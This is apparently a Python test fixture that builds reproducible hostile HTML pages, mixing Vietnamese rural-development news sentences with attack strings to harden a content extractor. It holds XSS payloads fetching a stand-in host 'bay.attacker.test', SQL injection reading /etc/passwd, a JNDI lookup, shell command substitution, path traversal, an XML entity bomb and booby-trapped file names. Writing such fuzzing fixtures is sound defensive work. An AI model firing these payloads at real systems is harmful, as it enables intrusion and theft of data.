"""Pages as an attacker would write them: true sentences among strings and shapes made to break a reader.

`hostile_page(seed)` is the same page for the same seed on every machine.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

from extractors.records import Page
from tests.pipeline.running import Done

NOW = datetime(2026, 11, 20, 18, tzinfo=UTC)
# A call that would be seen: no page, report or log may let it run or fetch it.
TRAP = "http://bay.attacker.test/"

ACTIVE = (
    f"<script>fetch('{TRAP}')</script>",
    f"<img src=x onerror=\"fetch('{TRAP}')\">",
    f'<svg/onload=fetch("{TRAP}")>',
    f"</title><script src={TRAP}a.js></script>",
    f"</textarea></style></mark></div><iframe src={TRAP}></iframe>",
    f"\"><a href='javascript:fetch(`{TRAP}`)'>bấm</a>",
    f"' onmouseover='fetch(\"{TRAP}\")' x='",
    f"<meta http-equiv=refresh content='0;url={TRAP}'>",
    f"<link rel=stylesheet href={TRAP}x.css><base href={TRAP}>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "＜script＞alert(1)＜/script＞",
)
CODE = (
    "'; drop table raw.articles; --",
    "\"); attach '/etc/passwd' as p; select ('",
    "' union select content from read_text('/etc/passwd') --",
    "$$; copy (select 1) to '/tmp/ntm-hostile'; $$",
    "{{ 7*7 }}{% for x in [].__class__.__mro__ %}{% endfor %}{# #}",
    "${jndi:ldap://bay.attacker.test/a}",
    "$(touch /tmp/ntm-hostile) `touch /tmp/ntm-hostile`; touch /tmp/ntm-hostile | sh",
    "%s%s%n%(name)s {0} {} {settings.data}",
    "[bold red]đỏ[/bold red][/] [link=http://bay.attacker.test]x[/link]",
    '=HYPERLINK("http://bay.attacker.test";"x")',
    "\\x00\\u0000\\N{NULL}\\'\\\"\\\\",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "C:\\Windows\\system32\\cmd.exe",
    "file:///etc/passwd",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
LETTERS = (
    "\u202e gnồđ ỷt 5 \u202c",
    "2\u200b.\u200b5\u200b0\u200b0 triệu\u2060 đồng",
    "xã\u00ad A\u200d Xan\ufeff",
    "a" + "\u0301\u0323\u0302" * 60,
    "\u2028dòng\u2029mới\x85nữa\x0b\x0c",
    "\x1b[2J\x1b]0;tên\x07",
    "\x00\x00NUL\x00",
    "\ud83d\udc68".encode("utf-16", "surrogatepass").decode("utf-16") + "\u200d" + "\U0001f469" * 40,
    "\U000e0041\U000e0042\ufff9chú\ufffa\ufffb",
    "\ufdfa" * 200,
    "İıſßŉ ﬀ ﷺ Ⅷ ½ ² ①",
    "&#xD800;&#xDFFF;&#0;&#x110000;&#x80;&#xFFFE;&#99999999999999999999;",
    "&nbsp;&zwnj;&NotEqualTilde;&amp;amp;lt;&khongco;",
    "đ\u0300ông \u0110\u0301 \u01b0\u031b\u0300",
    "e\u0323\u0302\u0301" * 400,
)
NUMBERS = (
    "9" * 400 + " tỷ đồng",
    "1" + "." + ".".join(["000"] * 80) + " đồng",
    "99.999.999.999.999.999 tỷ đồng",
    "9.223.372.036.854.775.808 đồng",
    "10.000.000 tỷ tỷ đồng",
    "-5 tỷ đồng",
    "0,000000000000000000000000000000000000001 tỷ đồng",
    "1e999 tỷ đồng",
    "１２３ tỷ đồng",
    "١٢٣ tỷ đồng và ๑๒๓ triệu đồng và ²³ tỷ đồng",
    "999999999999999999999999%",
    "từ 9" + "9" * 60 + " đến 10 tỷ đồng",
    "99999999999999999999/0 xã đạt chuẩn nông thôn mới",
    "0/0 xã đạt chuẩn nông thôn mới (NaN%)",
    "ngày 31/02/2022, ngày 00/00/0000, ngày 99/99/9999, năm 0, năm 99999, năm 20222",
    "đến năm 0000 và tháng 13/2022, quý 9/2022, giai đoạn 9999-0001, giai đoạn 2025-2021",
    "một trăm nghìn tỷ tỷ tỷ tỷ tỷ tỷ tỷ tỷ tỷ tỷ tỷ đồng",
    "rưỡi rưỡi rưỡi tỷ tỷ nửa nửa triệu đồng",
    "1.2.3.4.5.6.7.8,9,10,11 triệu đồng 12:34:56 tỷ",
    "99999999999999999999 km đường giao thông nông thôn",
    "19/19/19/19/19 tiêu chí",
)
PLACES = (("Tây Giang", "A Xan"), ("Nậm Nhùn", "Lê Lợi"), ("Lâm Bình", "Thượng Lâm"), ("A Lưới", "Hồng Thủy"))


def sentences(rng: random.Random) -> list[str]:
    """True sentences with figures of their own, so that no page reprints another."""
    district, commune = rng.choice(PLACES)
    plan, paid = rng.randint(20_000, 99_999), rng.randint(1_000, 19_999)
    return [
        f"Ngày 12/{rng.randint(1, 12)}/2022, lãnh đạo huyện {district} nghe báo cáo về xây dựng nông thôn mới.",
        f"Năm 2022, huyện {district} được giao {plan // 1000}.{plan % 1000:03d} triệu đồng vốn đầu tư phát triển của "
        f"Chương trình nông thôn mới, đã giải ngân {paid // 1000}.{paid % 1000:03d} triệu đồng.",
        f"Trong đó ngân sách trung ương là {rng.randint(2, 9)},{rng.randint(1, 9)} tỷ đồng.",
        f"Đến nay, toàn huyện có {rng.randint(1, 5)}/{rng.randint(6, 12)} xã đạt chuẩn nông thôn mới, bình quân mỗi xã "
        f"đạt {rng.randint(9, 18)},{rng.randint(1, 9)} tiêu chí; xã {commune} đạt {rng.randint(9, 18)} tiêu chí.",
        f"Các phòng chuyên môn của huyện {district} cùng các xã rà soát từng công trình và báo cáo hằng tuần.",
        f"Kết luận cuộc họp, lãnh đạo huyện yêu cầu xã {commune} dồn vốn cho những tiêu chí còn thiếu trong năm nay.",
        f"Huyện đã làm {rng.randint(3, 90)} km đường giao thông nông thôn và xóa {rng.randint(10, 300)} nhà tạm.",
    ]


def _nested(rng: random.Random, text: str) -> str:
    tag = rng.choice(("div", "span", "table><tr><td", "ul><li", "b", "blockquote", "font", "svg", "math", "template"))
    depth = rng.choice((50, 600, 6_000))
    closing = "".join(f"</{part.strip('<>')}>" for part in reversed(tag.split("><")))
    return f"<{tag}>" * depth + text + (closing * depth if rng.random() < 0.6 else "")


def _huge_table(rng: random.Random, text: str) -> str:
    rows, columns = rng.choice(((3_000, 4), (20, 400), (1, 9_000)))
    cells = "".join(f"<td rowspan={rng.choice((1, 65535))} colspan=1000>{rng.randint(1, 9**9)}</td>" for _ in range(9))
    plain = "".join(f"<td>{n} tỷ đồng</td>" for n in range(columns))
    return f"<table><tr>{cells}</tr>" + f"<tr>{plain}</tr>" * rows + f"</table><p>{text}</p>"


def _long_line(rng: random.Random, text: str) -> str:
    piece = rng.choice(("a", "1.", "xã ", "5 tỷ đồng ", "(", ", ", "nông thôn mới ", "1/", "&amp;", "<b>", "trong đó "))
    return f"<p>{text} {piece * (1_000_000 // len(piece))}</p>"


def _entity_bomb(rng: random.Random, text: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    outside = '<!ENTITY l0 "ha"><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % net SYSTEM "' + TRAP + '">'
    return f"<!DOCTYPE html [{outside}{levels}]><p>{text} &l11; &file; %net;</p>"


def _broken_markup(rng: random.Random, text: str) -> str:
    return f"<p {'a=' * 3000}><p></p></body></html><p>{text}<table><p><td></table></p><<<>>></ ></!--><!" + "<" * 3000


def _attributes(rng: random.Random, text: str) -> str:
    trick = rng.choice(ACTIVE + CODE).replace('"', "&quot;")
    many = " ".join(f'data-{n}="{trick}"' for n in range(200))
    return f'<div class="{trick}" id="{trick}" title="{trick}" {many}>{text}</div>'


SHAPES: tuple[Callable[[random.Random, str], str], ...] = (
    _nested,
    _huge_table,
    _long_line,
    _entity_bomb,
    _broken_markup,
    _attributes,
)


def _head(rng: random.Random, trick: str) -> str:
    safe = trick.replace('"', "&quot;")
    address = rng.choice(
        (
            f"https://tin.example.vn/{quote(trick)}",
            f"https://tin.example.vn/{safe}",
            f"javascript:fetch('{TRAP}')",
            "file:///etc/passwd",
            "https://../../../../tmp/ntm-hostile.html",
            "https://a.b/\u202e\u0000'\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
            "//bay.attacker.test/x",
            "https://x." + "a" * 100_000,
        )
    )
    linked = rng.choice(
        (
            '{"@type":"NewsArticle","headline":' + "[" * 100_000,
            '{"@type":["NewsArticle"],"@graph":7,"author":[[]],"datePublished":{"a":1},"headline":9e999}',
            '[null,1,"x",{"@type":"Article","author":{"name":{"name":"x"}},"publisher":[]}]',
            '{"@type":"Article","headline":"\\ud800\\u0000'
            + "x" * 9
            + '","datePublished":"9999-99-99T99:99:99+99:99"}',
            '{"@type":"Article","dateModified":"0001-01-01T00:00:00+14:00","datePublished":"' + "9" * 5000 + '"}',
            '{"@type":"Article","datePublished":"9999-12-31T23:59:59-14:00","n":' + "9" * 6000 + "}",
        )
    )
    stamp = rng.choice(("0000-00-00", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+12:00", "31/02/2022", safe))
    return (
        f'<link rel="canonical" href="{address}"><meta property="og:site_name" content="{safe}">'
        f'<meta name="author" content="{safe}"><meta property="article:published_time" content="{stamp}">'
        f'<meta property="article:modified_time" content="{stamp}">'
        f'<script type="application/ld+json">{linked}</script>'
    )


def _encoded(rng: random.Random, html: str) -> bytes:
    raw = html.encode("utf-8", "replace")
    way = rng.randrange(10)
    if way == 0:
        return html.encode("utf-16-le", "replace")[: -1 if rng.random() < 0.5 else None]
    if way == 1:
        return b"\xff\xfe" + html.encode("utf-16-be", "replace")
    if way == 2:
        return html.encode("cp1258", "xmlcharrefreplace")
    if way == 3:
        cut = sorted(rng.randrange(len(raw)) for _ in range(30))
        return b"".join(
            raw[a:b] + bytes(rng.choice((0x80, 0xC0, 0xED, 0xF4, 0xFE, 0xFF)) for _ in range(2))
            for a, b in zip([0, *cut], [*cut, len(raw)], strict=True)
        )
    if way == 4:
        return raw[: rng.randrange(len(raw) // 2, len(raw))]
    if way == 5:
        return html.encode("utf-8", "replace").replace("đ".encode(), b"\xed\xa0\x80\xc0\xaf")
    return raw


NAMES = (
    "{n}.html",
    "..%2f..%2f{n}.html",
    "..\\..\\{n}.html",
    "'; drop table x; -- {n}.html",
    "<img src=x onerror=alert({n})>.html",
    "$(touch ntm-hostile){n}`id`.html",
    "\u202etxt.{n}.html",
    " -rf {n} .html",
    "dòng\nmới {n}.html",
    "{{{{7*7}}}}%s%n{n}.html",
    "[red]{n}[bold].html",
    "\x1b[2J{n}.html",
    "&#60;b&#62;{n}?a=1#b.html",
    "đ" * 100 + "{n}.txt",
    "{n}.txt",
)


def hostile_bytes(seed: int) -> bytes:
    """The bytes of the page with this number."""
    rng = random.Random(seed)
    true = sentences(rng)
    tricks = [rng.choice(rng.choice((ACTIVE, CODE, LETTERS, NUMBERS))) for _ in range(rng.randint(2, 7))]
    body = []
    for sentence in true:
        trick = rng.choice(tricks)
        place = rng.randrange(5)
        if place == 0:
            at = rng.randrange(len(sentence))
            sentence = sentence[:at] + trick + sentence[at:]
        elif place == 1:
            sentence = f"{sentence} Cả huyện có {trick}, theo báo cáo của Ban Chỉ đạo."
        body.append(f"<p>{sentence}</p>")
    if rng.random() < 0.3:
        body.insert(rng.randrange(len(body)), rng.choice(SHAPES)(rng, rng.choice(true)))
    title = f"Huyện nghe báo cáo {seed} về nông thôn mới {rng.choice(tricks)}"
    head = _head(rng, rng.choice(tricks)) if rng.random() < 0.8 else ""
    family = rng.choice(("content-detail", "entry-content", "detail-content", "post-body", "x"))
    html = (
        f"<html><head><meta charset={rng.choice(('utf-8', 'utf-7', 'windows-1258', 'iso-2022-jp', 'x'))}>"
        f"<title>{title}</title>{head}</head><body><h1>{title}</h1>"
        f'<div class="{family}">{"".join(body)}</div></body></html>'
    )
    return _encoded(rng, html)


def hostile_name(seed: int) -> str:
    """The name of its file: as long, and as little like a file's, as a file system lets it be."""
    return NAMES[seed % len(NAMES)].format(n=seed)


def hostile_page(seed: int) -> Page:
    """The page as a site would have brought it."""
    name = hostile_name(seed)
    rng = random.Random(seed)
    uri = rng.choice((f"file:trang/{quote(name)}", f"https://tin.example.vn/{name}", f"https://tin.example.vn/{seed}"))
    kind = rng.choice((None, "text/html", "text/html; charset=utf-7", "text/html; charset=", "text/plain", "\x00;<b>"))
    return Page(uri, "trang", hostile_bytes(seed), NOW, kind)


@dataclass(frozen=True, slots=True)
class Night:
    """A whole run over hostile pages among sound ones, in a folder of its own; `before` lay there before it."""

    base: Path
    out: Path
    run: Done
    before: frozenset[Path]
